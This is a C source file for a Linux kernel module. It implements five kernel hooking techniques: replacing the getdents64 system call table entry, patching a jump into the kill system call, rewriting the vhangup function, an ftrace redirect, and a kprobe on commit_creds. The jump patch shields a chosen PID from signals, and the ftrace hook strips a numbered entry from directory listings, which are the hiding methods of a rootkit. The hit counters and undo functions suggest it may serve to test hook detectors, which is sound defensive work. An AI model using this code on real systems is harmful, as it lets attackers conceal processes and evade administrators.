// SPDX-License-Identifier: GPL-2.0-only
/* Hooks of functions and system calls: in the table, in the code, by ftrace and by a kprobe. */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/ptrace.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/unistd.h>
#include "tricks.h"

typedef asmlinkage long (*call_fn)(const struct pt_regs *regs);

static struct trick *by_table, *by_jump, *by_rewriting, *by_ftrace, *by_kprobe;

/*
 * A kernel with Linux's 1e3ad78334a6 (6.9, and 6.1.85) calls by a switch statement and keeps the table for tracing: there the
 * entry is seen, and has no effect.
 */
static asmlinkage long table_call(const struct pt_regs *regs)
{
	atomic_inc(&by_table->hits);
	return ((call_fn)by_table->original)(regs);
}

static int hook_table(struct trick *trick, int number)
{
	by_table = trick;
	return replace_pointer(trick, "sys_call_table", __NR_getdents64 * sizeof(void *), table_call);
}

static const u8 fentry_nop[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
static u8 jump_before[12];

/* Where a function's code begins with the five bytes that ftrace may use: behind ENDBR, or what is left of it. */
static u8 *fentry_of(void *function)
{
	u8 *code = function;

	if (memcmp(code, fentry_nop, sizeof(fentry_nop)) == 0)
		return code;
	return memcmp(code + 4, fentry_nop, sizeof(fentry_nop)) == 0 ? code + 4 : NULL;
}

/* A signal for the process that is protected goes to nobody. */
static asmlinkage long jump_kill(const struct pt_regs *regs)
{
	atomic_inc(&by_jump->hits);
	if ((int)regs->di == by_jump->number)
		return -ESRCH;
	/* The first instruction after the jump that was put in. */
	return ((call_fn)(by_jump->address + sizeof(fentry_nop)))(regs);
}

static int hook_jump(struct trick *trick, int number)
{
	u8 jump[5] = { 0xe9 };
	void *function;
	s32 distance;

	trick->symbol = "__x64_sys_kill";
	function = kernel_symbol(trick->symbol);
	trick->address = function ? fentry_of(function) : NULL;
	if (!trick->address)
		return -EBUSY;
	by_jump = trick;
	trick->target = jump_kill;
	distance = (long)trick->target - (long)trick->address - (long)sizeof(jump);
	memcpy(jump + 1, &distance, sizeof(distance));
	return write_kernel(trick->address, jump, sizeof(jump));
}

static void unhook_jump(struct trick *trick)
{
	write_kernel(trick->address, fentry_nop, sizeof(fentry_nop));
}

/* In place of the whole function. */
static asmlinkage long rewritten_vhangup(const struct pt_regs *regs)
{
	atomic_inc(&by_rewriting->hits);
	return -EDOM;
}

static int rewrite_function(struct trick *trick, int number)
{
	/* mov $target, %rax; jmp *%rax */
	u8 code[sizeof(jump_before)] = { 0x48, 0xb8, [10] = 0xff, 0xe0 };

	trick->symbol = "__x64_sys_vhangup";
	trick->address = kernel_symbol(trick->symbol);
	if (!trick->address)
		return -ENOENT;
	by_rewriting = trick;
	trick->target = rewritten_vhangup;
	memcpy(code + 2, &trick->target, sizeof(trick->target));
	memcpy(jump_before, trick->address, sizeof(jump_before));
	return write_kernel(trick->address, code, sizeof(code));
}

static void restore_function(struct trick *trick)
{
	write_kernel(trick->address, jump_before, sizeof(jump_before));
}

/* Without the entry of one name; 0 when that was all there was. */
static size_t without_entry(char *entries, size_t size, int number)
{
	size_t kept = 0, at, length;

	for (at = 0; at < size; at += length) {
		struct linux_dirent64 *entry = (void *)entries + at;

		length = entry->d_reclen;
		if (is_number(entry->d_name, strlen(entry->d_name), number))
			continue;
		memmove(entries + kept, entry, length);
		kept += length;
	}
	return kept;
}

static asmlinkage long filtered_getdents64(const struct pt_regs *regs)
{
	void __user *buffer = (void __user *)regs->si;
	long size, kept = 0;
	char *entries;

	atomic_inc(&by_ftrace->hits);
	while (kept == 0) {
		size = ((call_fn)by_ftrace->original)(regs);
		if (size <= 0)
			return size;
		entries = memdup_user(buffer, size);
		if (IS_ERR(entries))
			return PTR_ERR(entries);
		kept = without_entry(entries, size, by_ftrace->number);
		if (copy_to_user(buffer, entries, kept))
			kept = -EFAULT;
		kfree(entries);
	}
	return kept;
}

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	/* The replacement's own call of the original goes through here as well. */
	if (!within_module(parent, THIS_MODULE))
		ftrace_get_regs(fregs)->ip = (unsigned long)filtered_getdents64;
}

static struct ftrace_ops ftrace_hook = {
	.func = redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static int hook_ftrace(struct trick *trick, int number)
{
	int error;

	trick->symbol = "__x64_sys_getdents64";
	trick->original = kernel_symbol(trick->symbol);
	trick->address = &ftrace_hook;
	trick->target = redirect;
	if (!trick->original)
		return -ENOENT;
	by_ftrace = trick;
	error = ftrace_set_filter(&ftrace_hook, (char *)trick->symbol, strlen(trick->symbol), 1);
	return error ? error : register_ftrace_function(&ftrace_hook);
}

static void unhook_ftrace(struct trick *trick)
{
	unregister_ftrace_function(&ftrace_hook);
}

static int probe_hit(struct kprobe *probe, struct pt_regs *regs)
{
	atomic_inc(&by_kprobe->hits);
	return 0;
}

static struct kprobe kprobe_hook;

static int hook_kprobe(struct trick *trick, int number)
{
	int error;

	/* What registering fills in is of the function where it was last. */
	kprobe_hook = (struct kprobe){ .symbol_name = "commit_creds", .pre_handler = probe_hit };
	by_kprobe = trick;
	error = register_kprobe(&kprobe_hook);
	trick->symbol = kprobe_hook.symbol_name;
	trick->address = kprobe_hook.addr;
	trick->target = probe_hit;
	return error;
}

static void unhook_kprobe(struct trick *trick)
{
	unregister_kprobe(&kprobe_hook);
}

struct trick call_tricks[] = {
	{ .name = "hook-system-call-table", .start = hook_table, .stop = restore_pointer },
	{ .name = "hook-function-entry", .start = hook_jump, .stop = unhook_jump },
	{ .name = "rewrite-function", .start = rewrite_function, .stop = restore_function },
	{ .name = "hook-ftrace", .start = hook_ftrace, .stop = unhook_ftrace },
	{ .name = "hook-kprobe", .start = hook_kprobe, .stop = unhook_kprobe },
	{}
};
